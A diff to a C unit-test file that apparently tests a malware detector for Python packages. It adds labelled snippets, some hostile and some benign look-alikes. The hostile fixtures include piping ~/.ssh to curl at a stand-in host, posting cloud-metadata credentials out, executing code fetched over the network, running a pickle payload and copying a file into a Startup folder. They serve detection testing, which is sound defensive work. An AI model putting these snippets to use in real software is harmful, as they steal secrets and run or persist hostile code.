@@ -13,7 +13,8 @@
 static bool whole; /* every source goes through the model */
 
 /* Findings as " NAME NAME ", then facts as "NAME=VALUE ". */
-static void look(const char *source, size_t len, enum ch_code_place place, struct ch_buf *ret)
+static void look_at(const char *source, size_t len, const char *second, enum ch_code_place place,
+                    struct ch_buf *ret)
 {
     static const struct ch_sha256 sha256 = {{1}};
     struct ch_err err;
@@ -25,6 +26,9 @@ static void look(const char *source, size_t len, enum ch_code_place place, struc
         ch_source_whole(s);
     }
     ch_source_see(s, CH_STR("pkg/m.py"), place, (struct ch_str){source, len});
+    if (second != NULL) {
+        ch_source_see(s, CH_STR("pkg/second.py"), place, ch_str_of(second));
+    }
     ch_source_end(s);
     ch_source_free(s);
     assert_ch_ok(&err, ch_scan_write_end(w, &sha256, len, &err));
@@ -49,6 +53,11 @@ static void look(const char *source, size_t len, enum ch_code_place place, struc
     }
     free(stream);
     close(fd);
+}
+
+static void look(const char *source, size_t len, enum ch_code_place place, struct ch_buf *ret)
+{
+    look_at(source, len, NULL, place, ret);
 }
 
 enum { P_IMPORT = CH_PLACE_IMPORT, P_INSTALL = CH_PLACE_INSTALL, P_START = CH_PLACE_START,
@@ -175,6 +184,137 @@ static const struct row rows[] = {
     {P_IMPORT, NULL, "import pyperclip\ndef f():\n    pyperclip.copy(t)\n"},
     {P_IMPORT, "embedded-object", "import pickle\nT = pickle.loads(b'\\x80\\x03K\\x01.')\n"},
     {P_IMPORT, NULL, "import pickle\ndef f(b):\n    return pickle.loads(b)\n"},
+    /* exec and eval by way of somebody else */
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "list(map(exec, [base64.b64decode('eA==')]))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "(lambda r, t: r(t))(exec, base64.b64decode('eA=='))\n"},
+    {P_IMPORT, "remote-code",
+     "import requests\n"
+     "for x in map(eval, requests.get(u).text.split()): pass\n"},
+    {P_IMPORT, "hidden-name",
+     "class A:\n"
+     "    run = staticmethod(exec)\n"},
+    {P_IMPORT, "hidden-code",
+     "@exec\n"
+     "@f\n"
+     "def x(): pass\n"},
+    {P_IMPORT, NULL,
+     "t = list(map(eval, ['1', '2']))\n"
+     "TABLE = {'exec': exec}\n"},
+    {P_IMPORT, NULL,
+     "@exec_\n"
+     "def x(): pass\n"
+     "@app.exec\n"
+     "def y(): pass\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64, code\n"
+     "code.InteractiveInterpreter().runsource(base64.b64decode('eA=='))\n"},
+    {P_IMPORT, NULL,
+     "import code\n"
+     "def f(line):\n"
+     "    code.InteractiveInterpreter().runsource(line)\n"},
+    {P_IMPORT, "hidden-name",
+     "d = lambda t: ''.join(chr(c // 3) for c in t)\n"
+     "__import__(d([333, 345]))\n"},
+    {P_IMPORT, NULL,
+     "for n in names:\n"
+     "    __import__('a.' + n)\n"},
+    /* what was decoded into a file */
+    {P_IMPORT, "hidden-code",
+     "import base64, subprocess\n"
+     "p = '/tmp/x'\n"
+     "with open(p, 'wb') as f:\n"
+     "    f.write(base64.b64decode(T))\n"
+     "subprocess.Popen(['sh', p])\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\n"
+     "with open('/tmp/x.py', 'wb') as f:\n"
+     "    f.write(base64.b64decode(T))\n"},
+    {P_IMPORT, NULL,
+     "import base64\n"
+     "def g(t):\n"
+     "    with open('/tmp/x.py', 'wb') as f:\n"
+     "        f.write(base64.b64decode(t))\n"},
+    {P_IMPORT, NULL,
+     "import base64\n"
+     "def f(t):\n"
+     "    with open('/tmp/x.png', 'wb') as f:\n"
+     "        f.write(base64.b64decode(t))\n"},
+    {P_IMPORT, "hidden-code",
+     "import pickle\n"
+     "def f():\n"
+     "    pickle.loads(b'cos\\nsystem\\n(S.')\n"},
+    /* programs of its own; fetching by programs */
+    {P_IMPORT, "own-program",
+     "import os, subprocess\n"
+     "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
+    {P_IMPORT, "own-program",
+     "import os\n"
+     "os.system('sh ' + os.path.join(os.path.dirname(__file__), 'x.sh'))\n"},
+    {P_IMPORT, NULL,
+     "import os, subprocess\n"
+     "def f():\n"
+     "    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
+    {P_IMPORT, NULL,
+     "import os, subprocess\n"
+     "V = subprocess.check_output(['git', '-C', os.path.dirname(__file__), 'describe'])\n"},
+    {P_INSTALL, NULL,
+     "import os, sys, subprocess\n"
+     "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'gen.py')])\n"},
+    {P_IMPORT, NULL,
+     "import os\n"
+     "def f():\n"
+     "    os.remove(os.path.join(os.path.dirname(__file__), 'cache.db'))\n"},
+    {P_IMPORT, "import-network",
+     "import subprocess, sys\n"
+     "subprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])\n"},
+    {P_IMPORT, NULL,
+     "import subprocess, sys\n"
+     "def install(x):\n"
+     "    subprocess.call([sys.executable, '-m', 'pip', 'install', x])\n"},
+    /* secrets by other ways */
+    {P_IMPORT, "secret-theft",
+     "import os\n"
+     "def f():\n"
+     "    os.system('tar c ~/.ssh | curl --data-binary @- https://x.example.org')\n"},
+    {P_IMPORT, NULL,
+     "import os\n"
+     "def f():\n"
+     "    os.system('curl -o x https://x.example.org')\n"},
+    {P_IMPORT, "secret-theft",
+     "import requests\n"
+     "B = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+     "def f():\n"
+     "    k = requests.get(B + 'r').json()\n"
+     "    requests.post('https://x.example.org', json=k)\n"},
+    {P_IMPORT, NULL,
+     "import requests\n"
+     "B = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'\n"
+     "def f(u):\n"
+     "    t = requests.get(B).json()\n"
+     "    return requests.post(u, json={'a': 1}, headers={'Authorization': t})\n"},
+    /* places that something runs */
+    {P_IMPORT, "persistence",
+     "import shutil\n"
+     "shutil.copy(__file__, a + '\\\\Programs\\\\Startup\\\\x.pyw')\n"},
+    {P_IMPORT, "persistence",
+     "import os\n"
+     "p = os.path.expanduser('~/.ipython/profile_default/startup/00.py')\n"
+     "with open(p, 'w') as f:\n"
+     "    f.write('x')\n"},
+    {P_IMPORT, NULL,
+     "import shutil\n"
+     "shutil.copy('~/.bashrc', '/tmp/x')\n"},
+    /* other clients */
+    {P_IMPORT, "remote-code",
+     "import aiohttp\n"
+     "async def f():\n"
+     "    async with aiohttp.ClientSession() as s:\n"
+     "        async with s.get(u) as r:\n"
+     "            exec(await r.text())\n"},
     /* the text itself */
     {P_IMPORT, "source-encoding", "# coding: unicode_escape\n"},
     {P_IMPORT, NULL, "# coding: latin-1\nx = '\xe9'\n"},
@@ -227,6 +367,32 @@ static void finds(void **state)
         ch_buf_done(&all);
     }
     assert_int_equal(failures, 0);
+}
+
+/* exec in one file, the function that decodes in another. */
+static void sees_across_files(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *first;
+        const char *second;
+        const char *expected;
+    } pairs[] = {
+        {"from .codec import load\nexec(load(T))\n",
+         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n",
+         " hidden-code capability=dynamic-code "},
+        {"from .codec import load\nexec(load(T))\n", "def load(t):\n    return open(t).read()\n",
+         " capability=dynamic-code "},
+        {"from .codec import load\nprint(load(T))\n",
+         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n", " "},
+    };
+    for (size_t i = 0; i < CH_ARRAY_LEN(pairs); i++) {
+        struct ch_buf out;
+        ch_buf_init(&out, 4096);
+        look_at(pairs[i].first, strlen(pairs[i].first), pairs[i].second, CH_PLACE_IMPORT, &out);
+        assert_str_eq(ch_buf_str(&out), pairs[i].expected);
+        ch_buf_done(&out);
+    }
 }
 
 static size_t differences;
@@ -454,6 +620,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(finds),
+        cmocka_unit_test(sees_across_files),
         cmocka_unit_test(passes_over_no_table),
         cmocka_unit_test(passes_over_what_calls_nothing),
         cmocka_unit_test(sees_code_behind_blanks),
